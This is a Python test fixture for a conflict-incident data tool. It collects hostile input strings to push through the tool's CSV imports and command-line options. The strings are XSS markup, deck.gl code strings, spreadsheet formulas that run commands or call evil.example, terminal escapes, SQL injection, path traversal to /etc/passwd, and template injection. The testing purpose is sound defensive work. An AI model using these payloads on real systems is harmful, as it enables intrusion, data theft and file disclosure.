"""Texts made to do harm, by what they try: none of them may run, fetch or break anything.

`ALL` is what a cell, a name or an address may hold. Scripts call `owned()`, addresses lead to
`evil.example`: a browser test needs to look for these two alone.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Mapping, Sequence
from functools import partial
from typing import Final

EVIL: Final = "http://evil.example"
# deck.gl's JSON runs strings that begin with @@.
DECK: Final = (
    "@@=(",
    "@@=)(",
    "@@=1+1",
    "@@=c",
    "@@=constructor.constructor('owned()')()",
    "@@=[0,0]",
    "@@=",
    "@@",
    "@@#X",
    "@@#GL.ONE",
    "@@#__proto__.x",
    "@@type",
    "@@function",
    "@@\u202e=(",
)
# The same once invisible marks are stripped.
DECK_HIDDEN: Final = (
    "\u200b@@=(",
    "\ufeff@@#X",
    "\u2060@@=)(",
    " @@=(",
    "\u00a0@@=(",
    "\u200e@@=(",
)
MARKUP: Final = (
    "<script>owned()</script>",
    "<script src=http://evil.example/x.js></script>",
    "<img src=x onerror=owned()>",
    "<img src='http://evil.example/pixel.png'>",
    "<svg onload=owned()>",
    "<svg><script>owned()</script></svg>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    "<iframe src=javascript:owned()></iframe>",
    "<iframe srcdoc='<script>parent.owned()</script>'></iframe>",
    "<body onload=owned()>",
    "<input autofocus onfocus=owned()>",
    "<details open ontoggle=owned()>",
    "<video><source onerror=owned()></video>",
    "<audio src=x onerror=owned()>",
    "<a href=javascript:owned()>x</a>",
    "<a href='http://evil.example'>x</a>",
    "<form action=http://evil.example><button>x</button></form>",
    "<object data=http://evil.example/x.swf></object>",
    "<embed src=http://evil.example/x>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<style>*{display:none}</style>",
    "<div style=\"background:url('http://evil.example/x')\">x</div>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<math><mtext></table><img src=x onerror=owned()>",
    "<template><img src=x onerror=owned()></template>",
    "<noscript><p title='</noscript><img src=x onerror=owned()>'>",
    "<!--><img src=x onerror=owned()>-->",
    "<![CDATA[<img src=x onerror=owned()>]]>",
    "</style><script>owned()</script>",
    "</script><script>owned()</script>",
    "</textarea><script>owned()</script>",
    "</table></div><img src=x onerror=owned()>",
    "\" onmouseover=owned() x=\"",
    "' onmouseover=owned() x='",
    "\"><img src=x onerror=owned()>",
    "`-owned()-`",
    "'-owned()-'",
    "&lt;script&gt;owned()&lt;/script&gt;",
    "&#60;img src=x onerror=owned()&#62;",
    "\\u003cimg src=x onerror=owned()\\u003e",
    "%3Cscript%3Eowned()%3C/script%3E",
    "＜script＞owned()＜/script＞",
    "<scr<script>ipt>owned()</scr</script>ipt>",
    "<IMG SRC=JaVaScRiPt:owned()>",
    "<img/src=x/onerror=owned()>",
    "<x onclick=owned()>x",
    "<button popovertarget=x onbeforetoggle=owned()>x",
    "<marquee onstart=owned()>x</marquee>",
)  # fmt: skip
MARKDOWN: Final = (
    "![x](http://evil.example/pixel.png)",
    "[x](http://evil.example)",
    "[x](javascript:owned())",
    "[x](data:text/html,<script>owned()</script>)",
    "![x][1]\n\n[1]: http://evil.example/pixel.png",
    "<http://evil.example>",
    "http://evil.example/bare",
    "https://evil.example/bare",
    "www.evil.example",
    "eve@evil.example",
    "//evil.example/x",
    "**bold** _it_ ~~gone~~ `code`",
    "# heading",
    "---",
    "> quote",
    "- [ ] task",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "```\nfence",
    "\\[x\\](http://evil.example)",
    ":red[x] :blue-background[y]",
    ":material/delete: :streamlit: :rainbow[x]",
    ":smile: :+1:",
    "[^1]",
    "$x^2$",
    "$$\\frac{1}{0}$$",
    "$\\href{javascript:owned()}{x}$",
    "$\\includegraphics{http://evil.example/x.png}$",
    "$\\htmlData{x=y}{z}$",
    "$\\def\\x{\\x\\x}\\x$",
)
# What a spreadsheet would compute.
FORMULAS: Final = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "''=1+1",
    "=1+1;b",
    "a;=1+1;b",
    "a,=1+1,b",
    "a\t=1+1\tb",
    "a\n=1+1\nb",
    "\"=1+1\"",
    "a\";=1+1;\"b",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹢1+1",
    "﹣1",
    "−1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "%=1+1",
    "|=1+1",
)  # fmt: skip
# What a terminal would obey, and what turns text round.
TERMINAL: Final = (
    "\x1b[2J",
    "\x1b]0;owned\x07",
    "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07",
    "\x1b]52;c;b3duZWQ=\x07",
    "\x1bP$q\"p\x1b\\",
    "\x1b[6n",
    "\x1b[31mred",
    "\x9b2J",
    "\x9d0;owned\x9c",
    "\x90x\x9c",
    "\x07\x08\x0b\x0c\x0e\x7f",
    "a\rb",
    "a\u0085b",
    "a\u2028b\u2029c",
    "\u202eevil\u202c",
    "\u2066evil\u2069",
    "\u200f\u200e\u061c",
    "\u2067a\u2068b",
    "a\u200b\u200c\u200d\u2060\ufeffb",
    "\u00ad",
    "\U000e0041\U000e0042",
)  # fmt: skip
SQL: Final = (
    "'; DROP TABLE records; --",
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "1; ATTACH 'x.db'; --",
    "'); COPY incidents TO 'x.csv'; --",
    "' UNION SELECT * FROM read_csv('/etc/passwd') --",
    "$incident_id",
    "?",
    ":x",
    "%",
    "_",
    "\\",
    "\\'",
    "/* x",
    "--",
    "read_text('/etc/passwd')",
)  # fmt: skip
PATHS: Final = (
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "\\\\evil.example\\share\\x",
    "%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "file:///etc/passwd",
    "s3://evil/x.parquet",
    "x.csv\x00.png",
    "CON",
    ".",
    "..",
    "~root",
)
ADDRESSES: Final = (
    "javascript:owned()",
    "JaVaScRiPt:owned()",
    "java\tscript:owned()",
    "\x01javascript:owned()",
    "vbscript:owned()",
    "data:text/html,<script>owned()</script>",
    "data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+",
    "blob:http://evil.example/1",
    "http://evil.example/?x=\"onmouseover=owned()",
    "https://evil.example\" onclick=\"owned()",
    "http://127.0.0.1:1/_stcore/metrics",
    "ftp://evil.example/x",
    "mailto:eve@evil.example?body=x",
    "tel:1",
    "http://[::1",
    "http://\u0435vil.example",
)  # fmt: skip
TEMPLATES: Final = (
    "{{7*7}}",
    "{% raw %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0} {place} {__class__}",
    "{place.__class__.__mro__}",
    "%s %d %n %x",
    "%(place)s",
    "%{customdata[0]}",
    "%{fullData}<extra>x</extra>",
    "<b>x</b><br>",
    "<extra></extra>",
    "$(owned)",
    "`owned`",
    "; owned",
    "| owned",
    "!owned",
    "__proto__",
    "constructor",
    "toString",
)
BREAKERS: Final = (
    "\"",
    "'",
    "\"\"",
    "\\\"",
    "\\\\\"@@=x",
    "{\"@@type\":\"X\"}",
    "[1,2",
    "}]}\"",
    "null",
    "None",
    "NaN",
    "Infinity",
    "-0",
    "1e999",
    "true",
    "undefined",
    "a,b",
    "a;b",
    "a\nb",
    "a\r\nb",
    "a\x00b",
    "\x00",
    "\x1a",
    "\ufffd",
    "\ufffe\uffff",
    "😀👨‍👩‍👧‍👦",
    "Z̸̢͚̲̀́͂̃" * 8,
    "ﷺ" * 20,
    "هجوم \u202eعلى\u202c نقطة",
    "İıſẞ",
    "x" * 4000,
    "x " * 2000,
    "(" * 500,
    "[" * 500 + "]" * 500,
    "a" * 200 + "!",
)  # fmt: skip
KINDS: Final = {
    "deck": DECK, "deck, hidden": DECK_HIDDEN, "markup": MARKUP, "markdown": MARKDOWN,
    "formulas": FORMULAS, "terminal": TERMINAL, "sql": SQL, "paths": PATHS, "addresses": ADDRESSES,
    "templates": TEMPLATES, "breakers": BREAKERS,
}  # fmt: skip
ALL: Final = tuple(dict.fromkeys(text for texts in KINDS.values() for text in texts))
# What no file in UTF-8 holds, but an address or an argument may.
LONE: Final = ("\ud800", "a\udfffb", "\udcff")

_BLANKS: Final = re.compile(r"[\s\x00-\x1f\x7f-\x9f]")
FIELDS: Final = (
    "actor1",
    "actor2",
    "location",
    "source_title",
    "source_office",
    "disguise",
    "notes",
)

# A row of ACLED's layout without its free words, and its columns.
ACLED = {"event_id_cnty": "IRQ{number}", "event_date": "2024-02-03", "event_type": "Battles",
         "country": "Iraq", "latitude": "34.9", "longitude": "44.6", "geo_precision": "1",
         "time_precision": "1"}  # fmt: skip
ACLED_COLUMNS = ["event_id_cnty", "event_date", "year", "disorder_type", "event_type",
                 "sub_event_type", "actor1", "assoc_actor_1", "inter1", "actor2", "country",
                 "admin1", "admin2", "location", "latitude", "longitude", "geo_precision",
                 "time_precision", "source", "source_scale", "notes", "tags"]  # fmt: skip

# What can be said of a series of one's own.
DECLARED: Final = ("title", "entry", "span", "places", "definition", "licence", "attribution",
                   "grade")  # fmt: skip


def _declared(name: str, text: str) -> list[str]:
    return ["declare", "--dry-run", "--death-needed=no", f"--{name}={text}", "--", "EVIL"]


# What takes a text on the command line, by the name under which the parser keeps what was said.
OPTIONS: Final[dict[str, Callable[[str], list[str]]]] = {
    "text": lambda text: ["summary", f"--text={text}"],
    "actors": lambda text: ["summary", f"--actor={text}"],
    "sources": lambda text: ["timeline", f"--source={text}", "--from=2018-06-01"],
    "provinces": lambda text: ["summary", f"--province={text}"],
    "districts": lambda text: ["incidents", f"--district={text}"],
    "upload": lambda text: ["summary", f"--upload={text}"],
    "event_types": lambda text: ["summary", f"--event-type={text}"],
    "date_from": lambda text: ["summary", f"--from={text}"],
    "date_to": lambda text: ["summary", f"--to={text}"],
    "road": lambda text: ["summary", f"--road={text}"],
    "road_km": lambda text: ["changes", f"--road-km={text}"],
    "near": lambda text: ["places", f"--near={text}"],
    "along": lambda text: ["summary", f"--along={text}"],
    "within": lambda text: ["summary", f"--within={text}"],
    "only": lambda text: ["summary", f"--id={text}"],
    "place": lambda text: ["find-place", "--", text],
    "near_km": lambda text: ["levels", f"--near-km={text}"],
    "compare": lambda text: ["key-figures", f"--compare={text}"],
    "number": lambda text: ["evidence", "--", text],
    "finding": lambda text: ["judge", f"--finding={text}", "--ruling=supports", "--", text],
    "item": lambda text: ["rate", "--rating=C", "--", text, "return"],
    "rival": lambda text: ["rate", "--rating=C", "--", "small", text],
    "as_of": lambda text: ["findings", f"--as-of={text}"],
    "since": lambda text: ["verdict-history", f"--since={text}"],
    "report": lambda text: ["findings", f"--report={text}"],
    "link": lambda text: ["view", "save", "x", f"--link=nowhere?{text}"],
    "name": lambda text: ["view", "bring-back", "--", text],
    "folder": lambda text: ["report", "check", "--", text],
    "region": lambda text: ["report", "new", f"--region={text}", "none"],
    "date": lambda text: ["report", "new", f"--date={text}", "none/N"],
    "at_version": lambda text: ["history", f"--at-version={text}"],
    "format": lambda text: ["incidents", "--format", text],
    "inbox": lambda text: ["import", f"--inbox={text}"],
    "release": lambda text: ["update", "ucdp", f"--release={text}"],
    "fetch_from": lambda text: ["update", "acled", f"--from={text}"],
    "fetch_to": lambda text: ["update", "acled", f"--to={text}"],
    "id": lambda text: ["original", "--", text],
    "commit": lambda text: ["undo", "--", text],
    "tell_from": lambda text: ["notify", f"--from={text}"],
    "mute": lambda text: ["notify", f"--mute={text}"],
    "source": lambda text: ["grade", f"--source={text}", f"--reason={text}", "B2"],
    "before": lambda text: ["diff", "--", text],
    "after": lambda text: ["diff", "--", "0", text],
    "to": lambda text: ["restore", f"--to={text}"],
    "target": lambda text: ["link", f"--reason={text}", "--", text, f"none:{text}"],
    "ids": lambda text: ["retract", "--reason=x", "--", f"none:{text}"],
    "reason": lambda text: ["retract", f"--reason={text}"],
    "file": lambda text: ["import", "--", text],
    "decide": lambda text: ["import", f"--decide={text}", "x.csv"],
    "mapping": lambda text: ["import", f"--mapping={text}", "--", text],
    "coverage_from": lambda text: ["import", f"--coverage-from={text}", "x.csv"],
    "coverage_to": lambda text: ["import", f"--coverage-to={text}", "x.csv"],
    "sheet": lambda text: ["import", f"--sheet={text}", "x.csv"],
    "data": lambda text: ["codebook", f"--data={text}"],
    "port": lambda text: ["serve", f"--port={text}!"],
    "series": lambda text: ["findings", f"--series={text}"],
    "code": lambda text: ["declare", "--dry-run", "--", text],
    **{name: partial(_declared, name) for name in DECLARED},
    "option": lambda text: [f"--{text}="],
    "command": lambda text: [text],
}
# Closed lists and what is no option; and what goes another way: places of a coverage and names by
# the doors themselves, files to be written by the person who names them, and what is written into
# one (tests/store/cli/test_reporting.py, tests/store/test_views.py).
BY_CHOICE: Final = {"event_types", "format", "option", "command"}
ELSEWHERE: Final = {"coverage_places", "author", "out", "rejects", "publisher", "question", "note"}
# What argparse, the text filter or an encoding could stumble over.
ODD: Final = ("--", "", "=1+1", *LONE)


def row_of(number: int, text: str) -> dict[str, object]:
    """Return a row of our layout that says `text` wherever words are free: one day, one place."""
    kinds = ("Battles", "Violence against civilians", "Strategic developments")
    free = dict.fromkeys(FIELDS, text[:500])
    return {
        "incident_id": f"EVIL:{number}",
        "source": "EVIL",
        "event_date": f"2018-06-{number % 28 + 1:02}",
        "event_type": kinds[number % 3],
        "admin1": "Kirkuk",
        "latitude": round(35.0 + number % 20 / 50, 4),
        "longitude": round(43.9 + number // 20 / 50, 4),
        "geo_precision": number % 4 + 1,
        "source_url": text[:500],
    } | free


def table_of(rows: Sequence[Mapping[str, object]]) -> bytes:
    """Return rows as a CSV file in UTF-8, every cell in quotes."""
    text = io.StringIO()
    writer = csv.DictWriter(text, list(rows[0]), quoting=csv.QUOTE_ALL, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue().encode()


def rows() -> list[dict[str, object]]:
    """Return a row for every text, and one whose id and source are the text, where that may be.

    Without the texts that hold a NUL: a file with one is refused as binary.
    """
    texts = [text for text in ALL if "\x00" not in text]
    said = [row_of(number, text) for number, text in enumerate(texts)]
    names = list(dict.fromkeys(_BLANKS.sub("", text) for text in texts if len(text) <= 60))
    named = [
        row_of(len(said) + number, text) | {"incident_id": text, "source": text}
        for number, text in enumerate(names)
    ]
    return said + named
